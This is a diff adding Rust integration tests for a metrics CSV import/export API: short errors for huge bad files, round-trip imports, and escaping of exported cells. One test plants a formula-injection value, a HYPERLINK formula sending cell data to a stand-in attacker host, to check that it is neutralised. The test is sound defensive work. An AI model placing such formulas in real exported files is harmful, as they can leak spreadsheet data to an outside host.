@@ -81,7 +81,7 @@ async fn one_bad_row_among_a_thousand_writes_nothing_and_is_named() {
     let summary = ok_json(import(&app, &org.manager_a, fixed.clone()).await, 200).await;
     assert_eq!(
         summary,
-        json!({ "rows": 1000, "created": 1000, "replaced": 0 })
+        json!({ "rows": 1000, "created": 1000, "replaced": 0, "notes": [] })
     );
     assert_eq!(stored_months(&app).await, 1000);
     let again = ok_json(import(&app, &org.manager_a, fixed).await, 200).await;
@@ -302,4 +302,131 @@ async fn a_large_import_can_run_in_the_background_with_progress() {
         200,
     )
     .await;
+}
+
+async fn export(app: &TestApp, who: &Persona) -> String {
+    let response = app
+        .as_(who)
+        .get("/api/v1/metrics/export.csv?from=2025-01&to=2025-12")
+        .send()
+        .await
+        .expect("answers");
+    assert_eq!(response.status(), 200);
+    assert_eq!(
+        response
+            .headers()
+            .get("cache-control")
+            .and_then(|v| v.to_str().ok()),
+        Some("no-store"),
+        "personal data is not cached"
+    );
+    response.text().await.expect("text")
+}
+
+#[tokio::test]
+async fn a_file_of_millions_of_bad_lines_gets_a_short_answer() {
+    let app = TestApp::spawn_with(|config| config.body_limit = 10 * 1024 * 1024).await;
+    let org = app.seed_org().await;
+    let mut csv = String::from("employee_id,month,quality_score\n");
+    csv.push_str(&"x\n".repeat(2_000_000));
+    let response = import(&app, &org.admin, csv).await;
+    let length = response.content_length().unwrap_or(u64::MAX);
+    let body = problem(response, 422).await;
+    let errors = body["errors"].as_object().expect("errors");
+    assert_eq!(
+        errors.len(),
+        101,
+        "the first 100 lines and a count: {length} bytes"
+    );
+    assert!(
+        errors["file"][0]
+            .as_str()
+            .is_some_and(|m| m.starts_with("1999900 more problems")),
+        "{}",
+        errors["file"]
+    );
+    assert!(length < 20_000, "a small body, not {length} bytes");
+}
+
+#[tokio::test]
+async fn exported_cells_cannot_run_as_formulas_and_import_back_unchanged() {
+    let app = TestApp::spawn().await;
+    let org = app.seed_org().await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&B2,"open")"#;
+    let path = format!("/api/v1/users/{}", org.agent_a1.id);
+    ok_json(
+        app.as_(&org.manager_a)
+            .patch(&path, &json!({ "employee_id": formula, "version": 1 }))
+            .send()
+            .await
+            .expect("answers"),
+        200,
+    )
+    .await;
+    let metrics = format!("/api/v1/agents/{}/metrics/2025-03", org.agent_a1.id);
+    ok_json(
+        app.as_(&org.leader_a)
+            .request(reqwest::Method::PUT, &metrics)
+            .json(&json!({ "quality_score": 91.5 }))
+            .send()
+            .await
+            .expect("answers"),
+        200,
+    )
+    .await;
+    let csv = export(&app, &org.admin).await;
+    let row = csv
+        .lines()
+        .find(|line| line.contains("HYPERLINK"))
+        .expect("the agent's row");
+    assert!(
+        row.starts_with(r#""'=HYPERLINK("#),
+        "the cell is text to a spreadsheet: {row}"
+    );
+    // The file as downloaded imports unchanged: the employee id is read back as it was.
+    let summary = ok_json(import(&app, &org.admin, csv).await, 200).await;
+    assert_eq!(summary["rows"], 1, "{summary}");
+    assert_eq!(summary["replaced"], 1);
+}
+
+#[tokio::test]
+async fn the_export_imports_back_unchanged_with_the_score_ignored() {
+    let app = TestApp::spawn().await;
+    let org = app.seed_org().await;
+    with_employee_ids(&app, &org).await;
+    for (agent, value) in [(&org.agent_a1, 88.0), (&org.agent_a2, 72.5)] {
+        let path = format!("/api/v1/agents/{}/metrics/2025-05", agent.id);
+        ok_json(
+            app.as_(&org.leader_a)
+                .request(reqwest::Method::PUT, &path)
+                .json(&json!({ "quality_score": value, "schedule_adherence": 90 }))
+                .send()
+                .await
+                .expect("answers"),
+            200,
+        )
+        .await;
+    }
+    // An agent without an employee id is found by email.
+    let path = format!("/api/v1/users/{}", org.agent_a2.id);
+    ok_json(
+        app.as_(&org.admin)
+            .patch(&path, &json!({ "employee_id": null, "version": 2 }))
+            .send()
+            .await
+            .expect("answers"),
+        200,
+    )
+    .await;
+    let csv = export(&app, &org.manager_a).await;
+    assert!(csv.starts_with("employee_id,email,month,"), "{csv}");
+    assert!(csv.lines().next().is_some_and(|h| h.ends_with(",score")));
+    let summary = ok_json(import(&app, &org.manager_a, csv.clone()).await, 200).await;
+    assert_eq!(summary["rows"], 2, "{summary}");
+    assert_eq!(summary["replaced"], 2);
+    assert_eq!(
+        summary["notes"],
+        json!(["column `score` is computed by the server and was ignored"])
+    );
+    assert_eq!(export(&app, &org.manager_a).await, csv, "nothing changed");
 }
